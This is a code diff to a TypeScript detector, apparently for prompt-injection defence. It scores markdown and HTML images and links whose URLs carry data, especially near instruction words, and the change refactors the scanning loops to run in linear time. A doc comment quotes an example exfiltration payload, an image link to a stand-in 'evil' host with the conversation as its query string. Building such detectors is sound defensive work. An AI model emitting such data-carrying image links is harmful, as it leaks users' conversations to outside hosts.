@@ -3,7 +3,7 @@
  * line starts, markdown/HTML images and links whose URLs carry data, and tool-call syntax inside text.
  * All run on the normalized (lowercased) text with `indexOf` and bounded hand-written parsers.
  */
-import { isAsciiAlnum } from "./text-util.ts";
+import { isAsciiAlnum, WindowWords } from "./text-util.ts";
 
 export interface Signal {
   /** Distinct kind: signals of the same kind count once in a noisy-OR. */
@@ -157,11 +157,8 @@ function readUrl(t: string, from: number, stopAt: number): string {
   return t.slice(from, j);
 }
 
-function instructionContext(t: string, at: number): boolean {
-  const win = t.slice(Math.max(0, at - 300), at);
-  for (const w of INSTRUCTION_WORDS) if (win.includes(w)) return true;
-  return false;
-}
+/** How far before a link an instruction word ("append", "encode", …) makes it a signal. */
+const INSTRUCTION_BEFORE = 300;
 
 function isHttp(prefix: string): boolean {
   return prefix.startsWith("http://") || prefix.startsWith("https://") || prefix.startsWith("//");
@@ -172,14 +169,22 @@ function isHttp(prefix: string): boolean {
  * `![x](https://evil/?q={conversation})`. Plain images and links, even with short query strings, are not signals.
  */
 export function exfilSignals(t: string, out: Signal[]): void {
+  const instructions = new WindowWords(t, INSTRUCTION_WORDS, false);
+  const instructionContext = (at: number): boolean => instructions.has(at - INSTRUCTION_BEFORE, at);
+  // the last `[` before each `](`, by a cursor (a `lastIndexOf` per `](` read back to the start of the text)
+  let lb = -1;
+  let nextOpen = t.indexOf("[");
   for (let i = t.indexOf("]("); i !== -1; i = t.indexOf("](", i + 2)) {
-    const lb = t.lastIndexOf("[", i);
+    while (nextOpen !== -1 && nextOpen < i) {
+      lb = nextOpen;
+      nextOpen = t.indexOf("[", nextOpen + 1);
+    }
     if (lb === -1 || i - lb > 512) continue;
     const image = lb > 0 && t.charCodeAt(lb - 1) === 0x21;
     if (!isHttp(t.slice(i + 2, i + 10))) continue;
     const url = readUrl(t, i + 2, 0x29);
     const f = analyzeUrl(url, image);
-    const ctx = instructionContext(t, lb) ? 0.15 : 0;
+    const ctx = instructionContext(lb) ? 0.15 : 0;
     let w = 0;
     if (image) w = f.placeholder ? (f.dataWord ? 0.9 : 0.85) : f.longValue ? 0.45 + ctx : 0;
     else w = f.placeholder ? (f.dataWord ? 0.6 : 0.4) + ctx : f.longValue && ctx > 0 ? 0.35 : 0;
@@ -192,8 +197,10 @@ export function exfilSignals(t: string, out: Signal[]): void {
       });
     i += url.length; // never re-read a URL: keeps this linear
   }
+  // the first `src=` at or after each `<img`, cached: an `indexOf` per tag read to the end of the text
+  let src = -2;
   for (let i = t.indexOf("<img"); i !== -1; i = t.indexOf("<img", i + 4)) {
-    const src = t.indexOf("src=", i);
+    if (src !== -1 && src < i) src = t.indexOf("src=", i);
     if (src === -1 || src - i > 200) continue;
     const q = t.charCodeAt(src + 4);
     const quoted = q === 0x22 || q === 0x27;
@@ -202,13 +209,7 @@ export function exfilSignals(t: string, out: Signal[]): void {
     const url = readUrl(t, from, quoted ? q : 0x3e);
     i = from + url.length - 4;
     const f = analyzeUrl(url, true);
-    const w = f.placeholder
-      ? f.dataWord
-        ? 0.9
-        : 0.85
-      : f.longValue
-        ? 0.45 + (instructionContext(t, i) ? 0.15 : 0)
-        : 0;
+    const w = f.placeholder ? (f.dataWord ? 0.9 : 0.85) : f.longValue ? 0.45 + (instructionContext(i) ? 0.15 : 0) : 0;
     if (w > 0) out.push({ kind: "html_image", weight: w, start: i, end: src + 4 + url.length + 1 });
   }
 }
